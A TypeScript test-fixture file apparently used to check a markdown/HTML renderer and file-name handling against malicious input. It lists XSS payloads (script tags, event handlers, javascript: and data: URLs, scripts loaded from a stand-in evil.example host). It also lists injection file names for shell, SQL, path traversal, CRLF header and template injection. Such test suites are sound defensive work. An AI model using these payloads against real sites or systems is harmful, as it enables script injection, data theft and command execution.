/** Texts that try to run code, to load something from elsewhere, or to break out of their place. */

const run = 'window.broken=1';

const markup = [
  `<script>${run}</script>`,
  `<script src=//evil.example/x.js></script>`,
  `<img src=x onerror="${run}">`,
  `<img src=https://evil.example/pixel.gif>`,
  `<svg onload="${run}">`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin="${run}" attributeName=x dur=1s></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${run}</script></svg>#x"></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<math href="javascript:${run}">x</math>`,
  `<iframe src="javascript:parent.${run}"></iframe>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<object data="data:text/html,<script>${run}</script>"></object>`,
  `<embed src="javascript:${run}">`,
  `<form action="javascript:${run}"><button autofocus>x</button></form>`,
  `<button formaction="javascript:${run}" form=f>x</button>`,
  `<input autofocus onfocus="${run}">`,
  `<details open ontoggle="${run}">x</details>`,
  `<video autoplay onerror="${run}"><source src=x></video>`,
  `<audio src=x onerror="${run}">`,
  `<body onload="${run}">`,
  `<style>*{display:none}@import url(https://evil.example/x.css)</style>`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<base href=https://evil.example/>`,
  `<a href="javascript:${run}">x</a>`,
  `<a href="&#106;avascript:${run}">x</a>`,
  `<div style="position:fixed;inset:0;background:red">x</div>`,
  `<template><img src=x onerror="${run}"></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  `<select><template><img src=x onerror="${run}"></template></select>`,
  `<p id=app name=app data-user-id=99>clobber</p>`,
  `<a id=indexedDB><a id=indexedDB name=open href=x>`,
  `<!--><img src=x onerror="${run}">-->`,
  `<![CDATA[<img src=x onerror="${run}">]]>`,
  `<plaintext>`,
  `</div></article></main><h1>outside</h1>`,
  `<x-element is="x" onpointerover="${run}">x</x-element>`,
];

const urls = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java\tscript:${run}`,
  `java%0ascript:${run}`,
  `&#x6A;avascript:${run}`,
  `javascript&colon;${run}`,
  `\u0001javascript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuYnJva2VuPTE8L3NjcmlwdD4=`,
  `vbscript:msgbox(1)`,
  `file:///etc/passwd`,
  `blob:https://evil.example/1`,
  `//evil.example/x`,
  `https://evil.example/"onmouseover="${run}`,
  `https://evil.example/'onclick='${run}'`,
  `x" onerror="${run}`,
];

const around: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `> ${text}`,
  (text) => `- ${text}\n  - ${text}`,
  (text) => `| a |\n| - |\n| ${text} |`,
  (text) => `**${text}** _${text}_`,
  (text) => `[${text}](https://example.org)`,
];

const inUrl: readonly ((url: string) => string)[] = [
  (url) => `[click](${url})`,
  (url) => `[click](<${url}>)`,
  (url) => `![picture](${url})`,
  (url) => `<${url}>`,
  (url) => `[click][1]\n\n[1]: ${url}`,
  (url) => `[![x](${url})](${url})`,
];

const others = [
  ...['html', 'js', 'php', 'markdown', 'nonsense', 'constructor', '__proto__'].map(
    (language) => `\`\`\`${language}\n</span></code></pre><img src=x onerror="${run}">\n\`\`\``,
  ),
  `\`\`\`js" class="message" onload="${run}\ncode\n\`\`\``,
  `\`\`\`"><img src=x onerror="${run}">\ncode\n\`\`\``,
  `\`\`\`js onload="${run}"\n</code></pre><script>${run}</script>\n\`\`\``,
  `\`<img src=x onerror="${run}">\``,
  '\u202Egnp.exe',
  'Z̷̢̛̺a̵l̴g̷o̵'.repeat(20),
  '[[[['.repeat(500),
  '*_'.repeat(2_000),
  '> '.repeat(500),
  '('.repeat(2_000),
  `${'[a]('.repeat(400)}x`,
  '<'.repeat(3_000),
  '|'.repeat(1_000),
  '`'.repeat(1_001),
  '- '.repeat(300),
  'a'.repeat(10_000),
  `https://example.org/${'a'.repeat(2_000)}`,
];

export const hostileTexts: readonly string[] = [
  ...markup.flatMap((text) => around.map((place) => place(text))),
  ...urls.flatMap((url) => inUrl.map((place) => place(url))),
  ...others,
];

export const hostileNames: readonly string[] = markup.map((text) => text.slice(0, 60));

/** Names that a disk may have. */
export const hostileFileNames: readonly string[] = [
  ...markup.map((text) => `${text.replaceAll('/', '_').slice(0, 80)}.txt`),
  'invoice\u202Efdp.exe',
  '\u2066\u202Egnp.exe\u2069',
  '..',
  '.htaccess',
  'CON.txt',
  'a;b|c&d`e$(f).sh',
  "'; DROP TABLE files; --.sql",
  '%2e%2e%2fetc%2fpasswd',
  'name\r\nSet-Cookie: a=b.txt',
  'name"; filename="other.html',
  'javascript:window.broken=1',
  '{{constructor.constructor("window.broken=1")()}}.txt',
  `${'ü'.repeat(200)}.txt`,
  'x'.repeat(255),
  '😀'.repeat(60),
  'שלום.txt',
];
